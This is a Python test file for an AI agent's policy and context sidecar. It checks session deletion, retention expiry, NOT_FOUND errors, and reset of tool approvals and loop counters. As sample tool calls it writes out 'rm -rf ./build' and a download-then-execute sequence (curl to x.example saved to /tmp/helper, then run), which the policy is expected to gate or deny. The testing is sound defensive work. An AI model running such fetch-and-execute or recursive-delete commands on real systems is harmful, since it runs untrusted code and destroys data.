"""Deleting sessions, on request and by retention; unknown sessions are NOT_FOUND."""

from __future__ import annotations

import asyncio
import logging
import sqlite3
import time
from pathlib import Path

import grpc
import pytest

from sidecar.policy.loader import PolicyError, load_policy
from sidecar.server import Sidecar
from sidecar.state.store import SESSION_TABLES, StateStore
from sidecar.v1 import sidecar_pb2 as pb
from sidecar.v1 import sidecar_pb2_grpc as pb_grpc
from tests.conftest import StartSidecar, shell, write_policy
from tests.context_helpers import call, history_of, result, text

MARKER = "7e0a1c-private-customer-record"


def conversation(marker: str = MARKER) -> list[pb.Message]:
    messages = [text("sys", pb.ROLE_SYSTEM, "s"), text("u1", pb.ROLE_USER, "read the record")]
    for n in range(6):
        messages += [
            call(f"a{n}", (f"c{n}", "shell", '{"command": "cat record.txt"}')),
            result(f"t{n}", f"c{n}", f"{marker} {n}\n" * 300),
        ]
    messages.append(text("u2", pb.ROLE_USER, "now summarise it"))
    return messages


def session_keyed_rows(state_path: Path, session: str) -> dict[str, int]:
    """Rows for the session in every table that has a session_id (or sessions.id) column."""
    counts: dict[str, int] = {}
    with sqlite3.connect(state_path) as db:
        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        for table in tables:
            columns = {r[1] for r in db.execute(f"PRAGMA table_info({table})")}
            column = (
                "session_id" if "session_id" in columns else "id" if table == "sessions" else ""
            )
            if column:
                counts[table] = db.execute(
                    f"SELECT COUNT(*) FROM {table} WHERE {column} = ?", (session,)
                ).fetchone()[0]
    return counts


def bytes_on_disk(state_path: Path) -> bytes:
    return b"".join(
        p.read_bytes() for p in state_path.parent.iterdir() if p.name.startswith(state_path.name)
    )


async def verdict_of_rm(policy: pb_grpc.PolicyServiceStub, session: str) -> int:
    response = await policy.Inspect(
        pb.InspectRequest(
            session_id=session,
            tool_calls=[shell("1", "rm -rf ./build")],
            mode=pb.PERMISSION_MODE_APPROVE,
        )
    )
    return response.verdicts[0].verdict


async def answer_always(policy: pb_grpc.PolicyServiceStub, session: str) -> None:
    """A person answers the question an Inspect asked: always allow the tool."""
    asked = await policy.Inspect(
        pb.InspectRequest(
            session_id=session,
            tool_calls=[shell("1", "rm -rf ./build")],
            mode=pb.PERMISSION_MODE_APPROVE,
        )
    )
    assert asked.verdicts[0].verdict == pb.VERDICT_REQUIRE_APPROVAL
    await policy.RecordDecision(
        pb.RecordDecisionRequest(
            session_id=session,
            tool_name="shell",
            answer=pb.ANSWER_ALWAYS_ALLOW,
            decision_id=asked.decision_id,
            tool_call_id="1",
        )
    )


async def test_delete_session_removes_everything_it_stored(
    start_sidecar: StartSidecar, state_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    sidecar = await start_sidecar()
    async with grpc.aio.insecure_channel(sidecar.addresses[0]) as channel:
        stub = pb_grpc.ContextServiceStub(channel)
        policy = pb_grpc.PolicyServiceStub(channel)
        await stub.Append(pb.AppendRequest(session_id="gone", messages=conversation()))
        # Compaction and summaries write messages of the sidecar's own.
        view = await stub.Project(
            pb.ProjectRequest(
                session_id="gone", reason=pb.PROJECT_REASON_CONTEXT_EXCEEDED, context_limit=4_000
            )
        )
        assert view.compaction.compacted
        await stub.Append(pb.AppendRequest(session_id="kept", messages=conversation("other")))
        for session in ("gone", "kept"):
            await answer_always(policy, session)
            assert await verdict_of_rm(policy, session) == pb.VERDICT_ALLOW
        assert any(session_keyed_rows(state_path, "gone").values())
        kept_rows = session_keyed_rows(state_path, "kept")
        caplog.set_level(logging.INFO, logger="sidecar.context")

        deleted = await stub.DeleteSession(pb.DeleteSessionRequest(session_id="gone"))

        written = [*view.compaction.inserted_message_ids, *view.elided_message_ids]
        assert deleted.messages_deleted == len(conversation()) + len(written)
        assert not any(session_keyed_rows(state_path, "gone").values())
        assert session_keyed_rows(state_path, "kept") == kept_rows
        for method, request in (
            (stub.History, pb.HistoryRequest(session_id="gone")),
            (stub.Project, pb.ProjectRequest(session_id="gone")),
            (stub.DeleteSession, pb.DeleteSessionRequest(session_id="gone")),
        ):
            with pytest.raises(grpc.aio.AioRpcError) as raised:
                await method(request)
            assert raised.value.code() == grpc.StatusCode.NOT_FOUND
        # The standing answer went with the session: the call asks again.
        assert await verdict_of_rm(policy, "gone") == pb.VERDICT_REQUIRE_APPROVAL
        assert await verdict_of_rm(policy, "kept") == pb.VERDICT_ALLOW
    # Audited: one line naming the session, no content.
    audit = [r for r in caplog.records if "deleted session" in r.getMessage()]
    assert len(audit) == 1 and "gone" in audit[0].getMessage()
    assert not any(MARKER in r.getMessage() for r in caplog.records)
    assert (
        sidecar.metrics.registry.get_sample_value(
            "sidecar_context_sessions_deleted_total", {"reason": "request"}
        )
        == 1
    )
    # No copy of its text is left in the state file or its write-ahead log.
    assert MARKER.encode() not in bytes_on_disk(state_path)
    assert b"other" in bytes_on_disk(state_path)
    await sidecar.stop(grace=0)
    again = await start_sidecar()
    async with grpc.aio.insecure_channel(again.addresses[0]) as channel:
        stub = pb_grpc.ContextServiceStub(channel)
        with pytest.raises(grpc.aio.AioRpcError) as raised:
            await stub.History(pb.HistoryRequest(session_id="gone"))
        assert raised.value.code() == grpc.StatusCode.NOT_FOUND
        assert len(await history_of(stub, "kept")) == len(conversation("other"))
        # The id may be used again, for a new session.
        await stub.Append(
            pb.AppendRequest(session_id="gone", messages=[text("n", pb.ROLE_USER, "new")])
        )
        assert [m.id for m in await history_of(stub, "gone")] == ["n"]


async def test_delete_session_resets_the_sessions_counters(sidecar: Sidecar) -> None:
    async with grpc.aio.insecure_channel(sidecar.addresses[0]) as channel:
        stub = pb_grpc.ContextServiceStub(channel)
        policy = pb_grpc.PolicyServiceStub(channel)
        await stub.Append(
            pb.AppendRequest(session_id="loop", messages=[text("u", pb.ROLE_USER, "x")])
        )

        async def verdict_of_same_call() -> int:
            response = await policy.Inspect(
                pb.InspectRequest(session_id="loop", tool_calls=[shell("1", "ls")])
            )
            return response.verdicts[0].verdict

        verdicts = [await verdict_of_same_call() for _ in range(6)]
        assert verdicts[-1] == pb.VERDICT_DENY  # the sixth identical call in a row
        await stub.DeleteSession(pb.DeleteSessionRequest(session_id="loop"))
        assert await verdict_of_same_call() == pb.VERDICT_ALLOW


@pytest.mark.parametrize(
    "request_",
    [
        pb.ProjectRequest(session_id="nope"),
        pb.ProjectRequest(session_id="nope", usage=pb.Usage(input_tokens=5)),
        pb.AppendRequest(session_id="nope"),
        pb.AppendRequest(session_id="nope", usage=pb.Usage(input_tokens=5)),
        pb.HistoryRequest(session_id="nope"),
        pb.HistoryRequest(session_id="nope", page_token="1.0:1"),
        pb.DeleteSessionRequest(session_id="nope"),
    ],
)
async def test_unknown_sessions_are_not_found_everywhere(sidecar: Sidecar, request_) -> None:
    async with grpc.aio.insecure_channel(sidecar.addresses[0]) as channel:
        stub = pb_grpc.ContextServiceStub(channel)
        method = {
            pb.ProjectRequest: stub.Project,
            pb.AppendRequest: stub.Append,
            pb.HistoryRequest: stub.History,
            pb.DeleteSessionRequest: stub.DeleteSession,
        }[type(request_)]
        with pytest.raises(grpc.aio.AioRpcError) as raised:
            await method(request_)
        assert raised.value.code() == grpc.StatusCode.NOT_FOUND
        assert "nope" in (raised.value.details() or "")


async def wait_for(condition, seconds: float = 15.0) -> None:
    deadline = time.monotonic() + seconds
    while not await condition():
        assert time.monotonic() < deadline, "timed out"
        await asyncio.sleep(0.1)


async def test_retention_expires_idle_sessions_in_the_background(
    start_sidecar: StartSidecar, operator_policies: Path, state_path: Path
) -> None:
    write_policy(operator_policies, "retention.yaml", "context:\n  retention: 2s\n")
    sidecar = await start_sidecar()
    async with grpc.aio.insecure_channel(sidecar.addresses[0]) as channel:
        stub = pb_grpc.ContextServiceStub(channel)
        policy = pb_grpc.PolicyServiceStub(channel)
        for session in ("idle", "busy"):
            await stub.Append(pb.AppendRequest(session_id=session, messages=conversation()))
        await answer_always(policy, "idle")

        async def expired() -> bool:
            # The busy session keeps working meanwhile.
            await stub.Project(pb.ProjectRequest(session_id="busy"))
            try:
                await stub.History(pb.HistoryRequest(session_id="idle"))
            except grpc.aio.AioRpcError as error:
                assert error.code() == grpc.StatusCode.NOT_FOUND
                return True
            return False

        await wait_for(expired)
        assert len(await history_of(stub, "busy")) == len(conversation())
    assert not any(session_keyed_rows(state_path, "idle").values())
    assert (
        sidecar.metrics.registry.get_sample_value(
            "sidecar_context_sessions_deleted_total", {"reason": "retention"}
        )
        == 1
    )


@pytest.mark.parametrize(
    ("value", "seconds"), [("30d", 30 * 86_400), ("12h", 43_200), ("90m", 5_400), ("off", None)]
)
def test_retention_is_a_duration(tmp_path: Path, value: str, seconds: int | None) -> None:
    write_policy(tmp_path, "r.yaml", f"context:\n  retention: {value}\n")
    assert load_policy([tmp_path]).policy.context.retention_seconds == seconds


def test_a_bad_retention_names_the_file_and_setting(tmp_path: Path) -> None:
    write_policy(tmp_path, "r.yaml", "context:\n  retention: 30 days\n")
    with pytest.raises(PolicyError) as raised:
        load_policy([tmp_path])
    assert "r.yaml" in str(raised.value) and "context.retention" in str(raised.value)


def test_every_session_keyed_table_is_deleted_from(tmp_path: Path) -> None:
    """A table with a session_id column that SESSION_TABLES does not list would keep a
    deleted session's rows: a new table must be added there."""
    store = StateStore(str(tmp_path / "state.db"))
    try:
        with store.reading() as db:
            tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
            keyed = {
                table
                for table in tables
                if "session_id" in {r[1] for r in db.execute(f"PRAGMA table_info({table})")}
            }
    finally:
        store.close()
    assert keyed | {"sessions"} == {table for table, _ in SESSION_TABLES}


async def test_delete_session_removes_the_sessions_flow_facts(sidecar: Sidecar) -> None:
    async with grpc.aio.insecure_channel(sidecar.addresses[0]) as channel:
        stub = pb_grpc.ContextServiceStub(channel)
        policy = pb_grpc.PolicyServiceStub(channel)
        await stub.Append(
            pb.AppendRequest(session_id="flow", messages=[text("u", pb.ROLE_USER, "x")])
        )
        download = shell("1", "curl -o /tmp/helper https://x.example/helper")
        await policy.Inspect(pb.InspectRequest(session_id="flow", tool_calls=[download]))
        run = pb.InspectRequest(session_id="flow", tool_calls=[shell("2", "/tmp/helper")])
        assert (await policy.Inspect(run)).verdicts[0].verdict == pb.VERDICT_DENY
        assert sidecar.engine is not None and await sidecar.engine.facts_of("flow")
        await stub.DeleteSession(pb.DeleteSessionRequest(session_id="flow"))
        assert not await sidecar.engine.facts_of("flow")
